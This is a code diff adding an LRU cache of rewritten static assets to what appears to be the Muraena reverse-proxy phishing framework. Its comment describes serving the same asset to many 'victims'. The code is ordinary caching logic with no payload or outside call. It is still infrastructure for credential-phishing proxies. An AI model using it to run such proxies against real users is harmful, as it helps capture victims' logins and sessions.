@@ -0,0 +1,82 @@
+package proxy
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"net/http"
+	"strings"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+// rewriteCache is an LRU cache of rewritten static assets, so that the same asset requested by many victims
+// is transformed only once.
+// Entries are keyed by URL, upstream ETag (or body hash) and replacer generation, therefore
+// any change of the asset or of the transformation rules leads to a cache miss.
+type rewriteCache struct {
+	entries *lru
+
+	maxBodySize  int
+	contentTypes []string
+}
+
+// rewrites is the rewrite cache shared by all the proxies, nil if disabled
+var rewrites *rewriteCache
+
+// newRewriteCache returns the rewrite cache defined in the configuration, nil if disabled
+func newRewriteCache(sess *session.Session) *rewriteCache {
+	config := sess.Config.Transform.Response.Cache
+	if !config.Enabled {
+		return nil
+	}
+
+	return &rewriteCache{
+		entries:      newLRU(config.Size),
+		maxBodySize:  config.MaxBodySize,
+		contentTypes: config.ContentTypes,
+	}
+}
+
+// Cacheable checks if the rewritten version of the response can be cached
+func (c *rewriteCache) Cacheable(response *http.Response, body []byte) bool {
+	if response.StatusCode != http.StatusOK || len(body) > c.maxBodySize {
+		return false
+	}
+
+	mediaType := strings.ToLower(strings.TrimSpace(strings.Split(response.Header.Get("Content-Type"), ";")[0]))
+	for _, t := range c.contentTypes {
+		if strings.ToLower(t) == mediaType {
+			return true
+		}
+	}
+
+	return false
+}
+
+// Key returns the cache key of the response
+func (c *rewriteCache) Key(response *http.Response, body []byte, generation uint64) string {
+	// Weak ETags do not guarantee a byte-for-byte identical body
+	version := response.Header.Get("ETag")
+	if version == "" || strings.HasPrefix(version, "W/") {
+		sum := sha256.Sum256(body)
+		version = hex.EncodeToString(sum[:])
+	}
+
+	return fmt.Sprintf("%s|%s|%d", response.Request.URL.String(), version, generation)
+}
+
+// Get returns the rewritten body stored for key
+func (c *rewriteCache) Get(key string) (body string, ok bool) {
+	value, ok := c.entries.Get(key)
+	if !ok {
+		return
+	}
+
+	return value.(string), true
+}
+
+// Add stores the rewritten body for key
+func (c *rewriteCache) Add(key string, body string) {
+	c.entries.Add(key, body)
+}